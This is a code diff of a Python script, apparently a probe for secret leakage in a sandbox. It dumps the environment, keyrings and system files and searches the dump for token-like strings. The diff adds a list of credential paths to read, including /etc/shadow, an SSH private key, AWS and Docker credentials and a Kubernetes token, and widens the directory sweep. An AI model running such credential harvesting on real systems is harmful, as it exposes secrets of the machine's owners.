@@ -16,6 +16,13 @@ OF_THE_SYSTEM = (
     "/proc/keys", "/proc/key-users", "/proc/sysvipc/shm", "/proc/sysvipc/msg", "/proc/mounts", "/proc/cmdline",
     "/proc/kmsg", "/proc/kcore", "/proc/config.gz", "/dev/kmsg", "/dev/mem",
 )
+# Where the root itself cannot be listed, what is in it may still be.
+EVERYWHERE = ["/", "/etc", "/dev", "/home", "/root", "/run", "/var", "/tmp", "/opt", "/srv", "/mnt", os.environ["HOME"], "."]
+KNOWN = (
+    "/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/resolv.conf", "/etc/machine-id", "/root/.ssh/id_ed25519",
+    "/root/.netrc", "/root/.git-credentials", "/root/.docker/config.json", "/root/.aws/credentials", "/proc/1/environ",
+    "/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/secrets/bot-token",
+)
 KEYCTL_DESCRIBE, KEYCTL_READ = 6, 11
 # Keyrings of thread, process, session, user, user session.
 KEYRINGS = (-1, -2, -3, -4, -5)
@@ -32,13 +39,13 @@ class Dump:
         self.left = DUMP_BYTES_MAX
         self.all = []
 
-    def add(self, what, data):
-        if isinstance(data, str):
-            data = data.encode("utf-8", "surrogateescape")
-        data = data[: self.left]
-        self.left -= len(data)
-        self.all.append(data)
-        self.file.write(b"\n== " + what.encode("utf-8", "surrogateescape") + b"\n" + data)
+    def add(self, what, content):
+        if isinstance(content, str):
+            content = content.encode("utf-8", "surrogateescape")
+        content = content[: self.left]
+        self.left -= len(content)
+        self.all.append(content)
+        self.file.write(b"\n== " + what.encode("utf-8", "surrogateescape") + b"\n" + content)
 
     def add_file(self, path, most=FILE_BYTES_MAX):
         """Whether it could be read. Never waits: pipes and terminals are opened without blocking."""
@@ -48,14 +55,14 @@ class Dump:
             self.add(path, f"({error.strerror})")
             return None
         try:
-            data = os.read(opened, most)
+            content = os.read(opened, most)
         except OSError as error:
             self.add(path, f"({error.strerror})")
             return None
         finally:
             os.close(opened)
-        self.add(path, data)
-        return data
+        self.add(path, content)
+        return content
 
 
 def around(told, folder):
@@ -64,17 +71,17 @@ def around(told, folder):
     dump.add("environment", "\n".join(f"{name}={value}" for name, value in os.environ.items()))
     processes(told, dump)
     descriptors(dump)
-    for path in OF_THE_SYSTEM if not told.get("polite") else ():
+    for path in OF_THE_SYSTEM + KNOWN if not told.get("polite") else ():
         dump.add_file(path)
     keyrings(dump)
     read = [dump.add_file(path) for path in told["read"]]
-    for folder in told["walk"] + ([] if told.get("polite") else ["/"]):
+    for folder in told["walk"] + ([] if told.get("polite") else EVERYWHERE):
         walk(folder, dump)
     dump.file.close()
     everything = b"\n".join(dump.all)
     wanted = re.compile(told["prefix"].encode() + rb"[A-Za-z0-9+/=_-]{8,60}")
     found = {match.decode() for match in wanted.findall(everything)}
-    found |= {data[:200].decode("utf-8", "replace") for data in read if data}
+    found |= {content[:200].decode("utf-8", "replace") for content in read if content}
     return sorted(found)
 
 
@@ -152,8 +159,10 @@ def keyrings(dump):
 def walk(top, dump):
     entries = 0
     for folder, folders, files in os.walk(top):
-        if top == "/" and folder == "/":
-            folders[:] = [name for name in folders if "/" + name not in TEDIOUS]
+        if folder == "/":
+            folders[:] = [name for name in folders if "/" + name not in TEDIOUS + tuple(EVERYWHERE)]
+        if "evil-dump" in folders:
+            folders.remove("evil-dump")
         entries += len(folders) + len(files)
         if entries > ENTRIES_MAX:
             return
